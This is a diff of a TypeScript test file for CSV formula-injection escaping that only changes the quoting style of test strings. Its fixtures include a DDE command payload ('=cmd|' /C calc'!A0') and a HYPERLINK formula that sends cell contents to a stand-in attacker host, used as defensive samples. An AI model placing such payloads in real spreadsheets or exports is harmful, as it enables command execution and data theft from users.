@@ -28,13 +28,13 @@ const WRITTEN: readonly [string, string][] = [
   ['-cmd', "'-cmd"],
   ['@SUM(1)', "'@SUM(1)"],
   ['=HYPERLINK("https://evil.example/?"&A1,"open")', `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`],
-  ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
-  ['\t=1+1', "\"'\t=1+1\""],
-  ['\r=1+1', "\"'\r=1+1\""],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ['\t=1+1', '"\'\t=1+1"'],
+  ['\r=1+1', '"\'\r=1+1"'],
   // A value that already starts with apostrophes and a formula gets one apostrophe more.
   ["'=1+1", "''=1+1"],
   ["''@x", "'''@x"],
-  ["'\t", "\"''\t\""],
+  ["'\t", '"\'\'\t"'],
   // Everything else is written as it is.
   ["'", "'"],
   ["''", "''"],
@@ -62,7 +62,7 @@ test('a value that would start a formula is written with a leading apostrophe; e
 test('a cell no export wrote is taken as it is: a formula, apostrophes before other text', () => {
   const cells = ['=1+1', '-5', '@x', "'", "''", "'a", "'1", "x'=1"];
   for (const cell of cells) assert.equal(unescapeFormula(cell), cell, JSON.stringify(cell));
-  assert.deepEqual(read('=1+1,-5,\'a\r\n'), [['=1+1', '-5', "'a"]]);
+  assert.deepEqual(read("=1+1,-5,'a\r\n"), [['=1+1', '-5', "'a"]]);
 });
 
 /** Strings rich in apostrophes and the characters that start a formula. */
